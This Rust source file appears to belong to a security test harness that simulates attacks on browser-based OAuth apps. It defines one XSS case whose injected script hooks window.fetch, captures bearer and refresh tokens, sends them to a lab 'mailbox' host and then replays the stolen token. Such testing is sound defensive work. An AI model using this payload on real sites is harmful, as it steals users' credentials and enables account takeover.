//! Script reads what passes through the page.

use std::time::Duration;

use crate::attack::{
    plan::{Attack, Bound, Expect, Expected, Found, Needs, Tried},
    stage::Stage,
    target::Held,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "xss-memory",
    title: "Script reads what passes through the page",
    has: "a hole in the shop's page",
    does: "puts itself in the place of fetch, and sends home the tokens that go by",
    gains: "a token, to use from anywhere, for as long as it lives",
    source: "draft-ietf-oauth-browser-based-apps section 5.1; RFC 9700 section 2.2.1",
    expected: Expected::EVERYWHERE.not_careless_session("its pages send nothing that script could see").tokens(
        Expect::Window(Bound::Lifetime, "script in the page sees what the page sees; a token is good until it expires"),
    ),
    needs: Needs::Browser,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let (owner, page) = stage.visitor("owner").await?;
    let mailbox = stage.lab.places.mailbox();
    let hole = format!(
        "<script>const real = window.fetch; window.fetch = async (to, how) => {{ \
         const answer = await real(to, how); const token = how?.headers?.authorization; \
         if (token) real('{0}?x=' + encodeURIComponent(token)); \
         answer.clone().json().then((said) => said.refresh_token && real('{0}?r=' + said.refresh_token)).catch(() => 0); \
         return answer; }}</script>",
        mailbox.url
    );
    page.open(&stage.home(&hole)).await?;
    stage.greets(&page, &owner).await?;
    stage.show(&page, "the page while the script listens in").await?;
    let hits = mailbox.wait(Duration::from_secs(2)).await;
    if hits.iter().any(|hit| hit.parameter("r").is_some()) {
        return Ok(Found::Worked("a refresh token went by".to_owned()));
    }
    let Some(token) = hits.iter().find_map(|hit| hit.parameter("x")) else {
        return Ok(Found::Refused("no credential went by".to_owned()));
    };
    let access = token.strip_prefix("Bearer ").map(str::to_owned);
    let copy = Held { access, ..Held::default() };
    stage.lasting(&copy, stage.longest(Bound::Lifetime), "the access token that went by, used from elsewhere").await
}
